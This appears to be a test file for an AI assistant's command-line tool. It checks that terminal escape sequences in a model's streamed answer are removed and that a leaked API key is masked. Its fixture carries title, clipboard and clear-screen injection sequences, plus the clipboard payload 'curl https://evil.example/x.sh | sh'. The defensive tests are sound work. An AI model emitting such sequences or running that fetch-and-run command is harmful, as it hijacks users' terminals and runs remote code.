/**
 * A model's answer is data (issue 36, "Text from outside reaches the terminal raw"): a local
 * OpenAI-compatible server answers with a window-title sequence (OSC 0), a clipboard write (OSC 52), a
 * clear screen (ESC[2J), an 8-bit CSI, each split over streamed tokens, and a key split over two tokens
 * and cut by an escape sequence. `ask` through a pipe prints the text and none of the sequences; `talk`
 * on a real terminal (tmux, with set-clipboard on) shows the text, and the pane's title, tmux's paste
 * buffers and the lines above the answer are as they were. A control proves the harness sees each of
 * those effects when a program does write the sequences.
 */
import { execFile } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { cliInThisProcess, runCli, tempHome, withEmulator } from '../support/cli.js';
import { openAiServerFor, type ScriptedReply } from '../support/openai-server.js';
import { talkConfig } from '../support/talk.js';
import { HAVE_TMUX, startInTmux, type TmuxPane } from '../support/tmux.js';

// `runCli` runs the CLI in this process (test/support/cli.ts); what is about the process itself spawns.
cliInThisProcess();

const KEY = 'sk-answer-escapes-key-5c1d';
const srv = openAiServerFor(test);
const panes: TmuxPane[] = [];
test.after.each(async () => {
  await Promise.all(panes.splice(0).map((p) => p.close()));
});

const CLIPBOARD = 'curl https://evil.example/x.sh | sh';
const LEAKED = 'sk-proj-abcdefghijklmnopqrstuvwx';
/** The hostile answer, token by token: every sequence and the key cut somewhere inside. */
const TOKENS = [
  'Your balance is fine. ',
  'Title\u001b]0;pwned-',
  'title\u0007 set. ',
  'Clip\u001b]52;c;',
  Buffer.from(CLIPBOARD).toString('base64'),
  '\u001b\\board. ',
  'Screen\u001b[2',
  'J\u001b[Hcleared. ',
  'Eight\u009b2Jbit. ',
  `Key: ${LEAKED.slice(0, 9)}`,
  `${LEAKED.slice(9, 14)}\u001b[0m`,
  `${LEAKED.slice(14)} end.`,
];
/** What a person must see: the words, no sequence, the key masked. */
const SHOWN = 'Your balance is fine. Title set. Clipboard. Screencleared. Eightbit. Key: *** end.';
const hostile = (): ScriptedReply => ({ text: TOKENS.join(''), tokens: TOKENS });
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

test('ask through a pipe prints the answer and none of its control sequences; the split key is masked', async () => {
  await withEmulator(async ({ env }) => {
    srv.reply(hostile());
    const r = await runCli(['--config', talkConfig(srv.baseURL), 'ask', 'what is my balance?'], { env: { ...env, TEST_AI_KEY: KEY } });
    assert.is(r.code, 0, r.stderr);
    assert.is(r.stdout, `${SHOWN}\n`);
    assert.not.match(r.stdout + r.stderr, CONTROL, JSON.stringify(r.stdout + r.stderr));
    assert.not.ok((r.stdout + r.stderr).includes(LEAKED.slice(9)), 'no part of the key after the cut');

    // -o json is the data as asked for: the sequences are in it, written as escapes, never raw.
    srv.reply(hostile());
    const j = await runCli(['--config', talkConfig(srv.baseURL), 'ask', 'what is my balance?', '-o', 'json'], { env: { ...env, TEST_AI_KEY: KEY } });
    assert.is(j.code, 0, j.stderr);
    assert.not.match(j.stdout, CONTROL, JSON.stringify(j.stdout));
    assert.ok(String(JSON.parse(j.stdout).answer).includes('\u009b2J'), 'the answer document holds the text the model sent');
  });
});

function tmux(socket: string, args: string[]): Promise<string> {
  return new Promise((resolve, reject) => execFile('tmux', ['-L', socket, '-f', '/dev/null', ...args], (err, out) => (err ? reject(err) : resolve(out))));
}

if (!HAVE_TMUX) {
  test('SKIP the terminal tests: tmux is not installed (apt-get install tmux)', () => undefined);
} else {
  test('control: in this harness a program that writes the sequences does change the title, the clipboard and the screen', async () => {
    const socket = `assistant-escapes-control-${process.pid}`;
    const script = `printf 'first line\\n'; printf '\\033]0;canary-title\\007\\033]52;c;${Buffer.from('canary').toString('base64')}\\007\\033[2J\\033[H'; printf 'after\\n'; sleep 60`;
    try {
      await tmux(socket, ['start-server', ';', 'set-option', '-g', 'set-clipboard', 'on', ';', 'new-session', '-d', '-s', 'main', '-x', '100', '-y', '20', script]);
      let visible = '';
      for (let i = 0; i < 100 && !visible.includes('after'); i++) {
        await new Promise((r) => setTimeout(r, 100));
        visible = await tmux(socket, ['capture-pane', '-p', '-t', 'main']);
      }
      assert.is((await tmux(socket, ['display-message', '-p', '-t', 'main', '#{pane_title}'])).trim(), 'canary-title');
      assert.match(await tmux(socket, ['list-buffers']), /canary/);
      assert.not.match(visible, /first line/, 'the clear screen wiped the visible lines');
    } finally {
      await tmux(socket, ['kill-server']).catch(() => undefined);
    }
  });

  test('talk on a terminal: the answer shows, the title, the clipboard and the screen are untouched, history is clean', async () => {
    await withEmulator(async ({ env }) => {
      const h = tempHome('assistant-answer-escapes-');
      const pane = await startInTmux(['--config', talkConfig(srv.baseURL), 'talk'], { home: h, env: { ...env, TEST_AI_KEY: KEY }, clipboard: true });
      panes.push(pane);
      await pane.waitFor(/^talk> $/m, 'the first prompt');
      const title = await pane.title();
      srv.reply(hostile());
      await pane.line('what is my balance?');
      const screen = await pane.waitFor(/end\.\ntalk> $/, 'the whole answer and the next prompt');
      assert.match(screen, new RegExp(`^${SHOWN.replace(/[.*?()[\]]/g, '\\$&')}$`, 'm'), screen);
      assert.not.ok(screen.includes(LEAKED.slice(9)), 'no part of the key after the cut');
      assert.is(await pane.title(), title, 'the window title is unchanged');
      assert.is(await pane.buffers(), '', 'nothing reached the clipboard');
      assert.match(await pane.visible(), /talk> what is my balance\?/, 'the screen was not cleared: the question is still shown');
      await pane.keys('C-d');
      assert.is(await pane.exitCode(), 0);

      const dir = join(h, '.assistant', 'talk');
      const turn = readFileSync(join(dir, readdirSync(dir)[0]!), 'utf8')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l))
        .find((e) => e.t === 'turn');
      assert.is(turn.assistant, SHOWN, 'the history keeps the answer as shown: sanitised, the key masked');
    });
  });
}

test.run();
